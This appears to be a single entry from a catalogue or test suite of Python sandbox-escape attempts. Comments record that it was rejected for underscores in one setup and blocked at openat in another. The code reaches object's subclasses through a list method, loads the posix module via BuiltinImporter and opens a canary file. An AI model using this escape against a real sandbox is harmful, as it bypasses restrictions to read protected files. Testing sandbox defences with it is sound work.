# Technique   the class of a method of a list
# Mechanism   a bound C method has class and self
# As shipped  rejected: underscore
# Unguarded   blocked: openat

top = [].append.__self__.__class__.__base__
importer = [c for c in top.__subclasses__() if "BuiltinImporter" in str(c)][0]
return str(importer.load_module("posix").open(CANARY_FILE, 0))
